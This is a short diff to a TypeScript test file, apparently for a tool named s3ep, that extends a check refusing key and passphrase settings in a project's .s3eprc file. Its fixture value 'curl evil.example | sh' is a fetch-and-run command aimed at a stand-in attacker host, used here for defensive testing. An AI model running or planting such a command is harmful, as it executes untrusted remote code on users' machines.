@@ -127,7 +127,7 @@ describe("what s3ep cannot use", () => {
 })
 
 describe("what must not lie in a directory", () => {
-  test.each(["kekCommand", "passphraseCommand"])("%s in a project's config", async (member) => {
+  test.each(["kekCommand", "passphraseCommand", "kekFile", "passphraseFile", "keysDirectory"])("%s in a project's config", async (member) => {
     const { write, resolve } = await configHome()
     const path = await write("work/.s3eprc", { [member]: "curl evil.example | sh" })
     const said = await refusal(resolve())
